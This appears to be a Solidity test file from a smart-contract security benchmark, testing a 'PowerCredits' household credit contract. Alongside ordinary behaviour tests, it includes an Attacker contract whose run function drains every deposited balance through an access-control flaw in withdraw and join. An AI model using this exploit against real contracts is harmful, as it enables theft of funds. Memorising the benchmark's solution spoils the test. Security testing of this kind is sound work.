// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "@openzeppelin/contracts@3.4.2/token/ERC20/ERC20.sol";
import "./PowerCredits.sol";

// assay-canary-236835a1-a21d-4902-a800-a73ac4b90c5d

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Euro is ERC20("Euro", "EUR") {
    constructor() public {
        _mint(msg.sender, 100_000 ether);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    address private constant DAN = address(0xDA9);

    Euro public euro;
    PowerCredits private credits;
    Attacker private mallory;

    function setUp() public {
        euro = new Euro();
        credits = new PowerCredits(euro);
        euro.approve(address(credits), uint256(-1));
        credits.deposit(ANA, 500 ether);
        credits.deposit(BEN, 300 ether);
        credits.deposit(CAT, 200 ether);
        vm.prank(BEN);
        credits.openHousehold();
        vm.prank(CAT);
        credits.join(BEN);
        mallory = new Attacker(credits);
    }

    function test_Regular() public {
        require(credits.totalCredits() == 1_000 ether && credits.headOf(CAT) == BEN, "set up");
        vm.prank(ANA);
        require(credits.withdraw(ANA, ANA, 100 ether) == 400 ether, "by the account");
        vm.startPrank(BEN);
        require(credits.withdraw(CAT, DAN, 50 ether) == 150 ether, "by the head");
        require(credits.withdraw(BEN, BEN, 10 ether) == 290 ether, "the head's own");
        vm.stopPrank();
        require(euro.balanceOf(DAN) == 50 ether && euro.balanceOf(ANA) == 100 ether, "paid");
        vm.prank(CAT);
        require(credits.withdraw(CAT, CAT, 1 ether) == 149 ether, "a member's own");
        uint256 before = euro.balanceOf(address(this));
        credits.consume(CAT, 49 ether);
        require(credits.creditsOf(CAT) == 100 ether && euro.balanceOf(address(this)) == before + 49 ether, "consumed");
        vm.prank(CAT);
        credits.leave();
        require(credits.headOf(CAT) == address(0) && credits.totalCredits() == 790 ether, "left");
        credits.transferOwnership(ANA);
        vm.prank(ANA);
        credits.renounceOwnership();
    }

    function test_RefusesOthers() public {
        vm.prank(BEN);
        vm.expectRevert("only the account and its head withdraw");
        credits.withdraw(ANA, BEN, 1);
        vm.prank(ANA);
        vm.expectRevert("only the account and its head withdraw");
        credits.withdraw(CAT, ANA, 1);
        vm.prank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        credits.consume(CAT, 1);
    }

    function test_RefusesValues() public {
        vm.expectRevert("the underlying must not be zero");
        new PowerCredits(IERC20(address(0)));
        vm.startPrank(ANA);
        vm.expectRevert("the credits are too few");
        credits.withdraw(ANA, ANA, 500 ether + 1);
        vm.expectRevert("there is no such household");
        credits.join(CAT);
        vm.expectRevert("there is no such household");
        credits.join(address(0));
        vm.stopPrank();
        vm.expectRevert("the credits are too few");
        credits.consume(CAT, 200 ether + 1);
    }

    function exploit() public {
        mallory.run(ANA, BEN, CAT);
    }

    function test_Exploit() public {
        exploit();
        require(euro.balanceOf(address(mallory)) == 1_000 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(credits);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    PowerCredits private credits;

    constructor(PowerCredits c) public {
        credits = c;
    }

    function run(address single, address head, address member) external {
        credits.withdraw(single, address(this), 500 ether);
        credits.join(head);
        credits.withdraw(head, address(this), 300 ether);
        credits.withdraw(member, address(this), 200 ether);
    }
}
